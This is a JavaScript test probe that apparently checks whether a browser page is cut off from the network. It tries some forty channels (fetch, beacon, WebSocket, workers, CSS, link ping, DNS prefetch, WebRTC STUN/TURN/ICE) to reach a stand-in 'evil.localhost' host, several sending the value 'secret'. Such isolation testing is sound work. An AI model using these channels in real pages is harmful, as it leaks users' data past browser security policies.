/** Every way out of a page that does not lead the page itself away. Called with the listener's port; returns what was
 *  tried. Each try has a name of its own in the address: `NAME.evil.localhost:PORT/NAME`. */
async (port) => {
const GRACE = 1500; // milliseconds for what tells nobody how it went
const host = (name) => `${name.replaceAll(" ", "-")}.evil.localhost:${port}`;
const url = (name) => `http://${host(name)}/${encodeURIComponent(name)}`;
const settled = (it) => new Promise((done) => { it.onload = it.onerror = it.onopen = it.onclose = it.onmessage = done; });
const element = (tag, properties) => {
  const it = Object.assign(document.createElement(tag), properties);
  const over = settled(it);
  document.body.append(it);
  return Promise.race([over, new Promise((done) => setTimeout(done, GRACE))]);
};
const grace = () => new Promise((done) => setTimeout(done, GRACE));
const worker = (code) => settled(new Worker(URL.createObjectURL(new Blob([`${code}.finally(() => postMessage(1))`]))));
const peer = async (configuration) => {
  const it = new RTCPeerConnection(configuration);
  it.createDataChannel("secret");
  await it.setLocalDescription(await it.createOffer());
  return it;
};
const go = `${location.origin}/go`;
const ways = {
  "fetch": () => fetch(url("fetch"), { mode: "no-cors" }),
  "keepalive": () => fetch(url("keepalive"), { mode: "no-cors", keepalive: true, method: "POST", body: "secret" }),
  "xhr": () => { const it = new XMLHttpRequest(); it.open("GET", url("xhr")); it.send(); return settled(it); },
  "socket": () => settled(new WebSocket(url("socket").replace("http", "ws"))),
  "events": () => settled(new EventSource(url("events"))),
  "beacon": () => { navigator.sendBeacon(url("beacon"), "secret"); return grace(); },
  "image": () => element("img", { src: url("image") }),
  "video": () => element("video", { src: url("video"), preload: "auto" }),
  "object": () => element("object", { data: url("object") }),
  "script": () => element("script", { src: url("script") }),
  "inline script": () => element("script", { textContent: `fetch("${url("inline script")}", {mode: "no-cors"}).catch(() => 0)` }),
  "frame": () => element("iframe", { src: url("frame") }),
  "frame document": () => element("iframe", { srcdoc: `<img src="${url("frame document")}">` }),
  "form into a frame": () => {
    document.body.insertAdjacentHTML("beforeend", `<iframe name="t"></iframe><form target="t" method="post"></form>`);
    const form = /** @type {any} */ (document.querySelector("form"));
    form.action = url("form into a frame");
    form.submit();
    return grace();
  },
  "popup": () => { window.open(url("popup")); return grace(); },
  "popup alone": () => { window.open(url("popup alone"), "_blank", "noopener"); return grace(); },
  "download": () => { const it = document.createElement("iframe"); document.body.append(it);
    const a = /** @type {any} */ (it.contentDocument).createElement("a"); a.href = url("download"); a.download = "x";
    /** @type {any} */ (it.contentDocument).body.append(a); a.click(); return grace(); },
  "worker": () => worker(`fetch("${url("worker")}", {mode: "no-cors"}).catch(() => 0)`),
  "worker import": () => worker(`(async () => { try { importScripts("${url("worker import")}") } catch {} })()`),
  "worker socket": () => worker(`new Promise((d) => { const s = new WebSocket("${url("worker socket").replace("http", "ws")}"); s.onclose = d; })`),
  "shared worker": () => {
    const code = `onconnect = (e) => fetch("${url("shared worker")}", {mode: "no-cors"}).catch(() => 0).finally(() => e.ports[0].postMessage(1))`;
    return settled(new SharedWorker(URL.createObjectURL(new Blob([code]))).port);
  },
  "service worker": () => navigator.serviceWorker.register("/worker").then(grace),
  "style": () => element("link", { rel: "stylesheet", href: "/style" }),
  "import": () => element("style", { textContent: `@import url(${url("import")});` }),
  "background": () => { document.body.style.backgroundImage = `url(${url("background")})`; return grace(); },
  "font": () => new FontFace("f", `url(${url("font")})`).load(),
  "ping": () => { const a = document.createElement("a"); a.href = "#here"; a.ping = url("ping");
    document.body.append(a); a.click(); return grace(); },
  "prefetch": () => element("link", { rel: "prefetch", href: url("prefetch") }),
  "preload": () => element("link", { rel: "preload", as: "fetch", href: url("preload") }),
  "module preload": () => element("link", { rel: "modulepreload", href: url("module preload") }),
  "preconnect": () => element("link", { rel: "preconnect", href: url("preconnect") }),
  "dns prefetch": () => element("link", { rel: "dns-prefetch", href: url("dns prefetch") }),
  "redirect": () => fetch(go, { mode: "no-cors" }),
  "webtransport": () => new WebTransport(url("webtransport").replace("http", "https")).ready,
  "stun": () => peer({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] }).then(grace),
  "turn": () => peer({ iceServers: [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: "secret", credential: "c" }] }).then(grace),
  "turn name": () => peer({ iceServers: [{ urls: `turn:${host("turn name")}?transport=tcp`, username: "s", credential: "c" }] }).then(grace),
  "ice": async () => {
    const [here, there] = [await peer(), new RTCPeerConnection()];
    await there.setRemoteDescription(/** @type {any} */ (here.localDescription));
    await there.setLocalDescription(await there.createAnswer());
    await here.setRemoteDescription(/** @type {any} */ (there.localDescription));
    const candidate = `candidate:1 1 tcp 1518280447 127.0.0.1 ${port} typ host tcptype passive`;
    await here.addIceCandidate({ candidate, sdpMid: "0", sdpMLineIndex: 0 });
    await grace();
  },
};
await Promise.all(Object.values(ways).map((way) => Promise.resolve().then(way).catch(() => {})));
return { tried: Object.keys(ways) };
}
